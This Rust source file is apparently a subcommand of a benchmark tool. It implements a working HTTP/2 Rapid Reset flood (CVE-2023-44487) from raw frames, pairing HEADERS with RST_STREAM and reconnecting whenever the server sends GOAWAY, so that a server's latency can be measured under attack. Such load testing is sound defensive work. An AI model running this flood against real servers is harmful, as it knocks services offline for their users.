//! `meshtest rapid-reset`: the HTTP/2 Rapid Reset flood (CVE-2023-44487)
//! for the benchmark's "legitimate latency during a flood" row.
//!
//! Cleartext HTTP/2 with prior knowledge, written as raw frames so nothing
//! in a client library paces it: on each connection the preface, SETTINGS,
//! then pairs of HEADERS (a complete `GET /`) and RST_STREAM (CANCEL) as
//! fast as the socket takes them; whatever the server sends is read and
//! dropped on another thread. When the server closes the connection (a
//! GOAWAY and close is the expected defence), it reconnects. One line at
//! the end: streams opened and reset, connections used, GOAWAYs seen.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use serde_json::json;

#[derive(clap::Args)]
pub struct Args {
    #[arg(long)]
    to: SocketAddr,
    /// Seconds of flooding.
    #[arg(long)]
    secs: f64,
    /// HEADERS + RST_STREAM pairs per write.
    #[arg(long, default_value_t = 100)]
    batch: u32,
}

pub fn run(a: Args) -> ExitCode {
    let until = Instant::now() + super::secs(a.secs);
    let goaways = Arc::new(AtomicU64::new(0));
    let (mut streams, mut connections, mut refused) = (0u64, 0u64, 0u64);
    while Instant::now() < until {
        let mut s = match TcpStream::connect_timeout(&a.to, Duration::from_secs(2)) {
            Ok(s) => s,
            Err(_) => {
                refused += 1;
                std::thread::sleep(Duration::from_millis(10));
                continue;
            }
        };
        connections += 1;
        let _ = s.set_nodelay(true);
        let _ = s.set_write_timeout(Some(Duration::from_secs(2)));
        if let Ok(reader) = s.try_clone() {
            let goaways = goaways.clone();
            std::thread::spawn(move || drain(reader, &goaways));
        }
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        out.extend_from_slice(&[0, 0, 0, 0x04, 0, 0, 0, 0, 0]); // SETTINGS, empty
        if s.write_all(&out).is_err() {
            continue;
        }
        let authority = a.to.to_string();
        let mut id: u32 = 1;
        'conn: while Instant::now() < until && id < (1 << 30) {
            out.clear();
            for _ in 0..a.batch {
                pair(&mut out, id, &authority);
                id += 2;
            }
            if s.write_all(&out).is_err() {
                break 'conn;
            }
            streams += u64::from(a.batch);
        }
        let _ = s.shutdown(std::net::Shutdown::Both);
    }
    super::emit(json!({"ok": true, "streams": streams, "connections": connections,
                       "goaways": goaways.load(Ordering::Relaxed), "refused": refused}));
    ExitCode::SUCCESS
}

/// HEADERS (END_STREAM | END_HEADERS) for `GET /` on stream `id`, then
/// RST_STREAM (CANCEL) for it.
fn pair(out: &mut Vec<u8>, id: u32, authority: &str) {
    // HPACK: indexed :method GET (2), :scheme http (6), :path / (4); literal
    // :authority (name index 1, not indexed, short value).
    let mut block = vec![0x82, 0x86, 0x84, 0x01, authority.len() as u8];
    block.extend_from_slice(authority.as_bytes());
    frame(out, 0x01, 0x05, id, &block);
    frame(out, 0x03, 0, id, &8u32.to_be_bytes()); // CANCEL
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, id: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Reads and drops the server's frames, counting GOAWAYs (type 7) by frame
/// header, until the connection closes.
fn drain(mut s: TcpStream, goaways: &AtomicU64) {
    let mut buf = vec![0u8; 64 << 10];
    let mut pending: Vec<u8> = Vec::new();
    while let Ok(n) = s.read(&mut buf) {
        if n == 0 {
            break;
        }
        pending.extend_from_slice(&buf[..n]);
        while pending.len() >= 9 {
            let len = u32::from_be_bytes([0, pending[0], pending[1], pending[2]]) as usize;
            if pending.len() < 9 + len {
                break;
            }
            if pending[3] == 0x07 {
                goaways.fetch_add(1, Ordering::Relaxed);
            }
            pending.drain(..9 + len);
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_pair_is_a_headers_and_a_reset_frame_of_one_stream() {
        let mut out = Vec::new();
        super::pair(&mut out, 3, "a:1");
        // HEADERS: length 8, type 1, END_STREAM|END_HEADERS, stream 3.
        assert_eq!(&out[..9], &[0, 0, 8, 0x01, 0x05, 0, 0, 0, 3]);
        assert_eq!(&out[9..17], &[0x82, 0x86, 0x84, 0x01, 3, b'a', b':', b'1']);
        // RST_STREAM: length 4, type 3, stream 3, CANCEL.
        assert_eq!(&out[17..], &[0, 0, 4, 0x03, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }
}
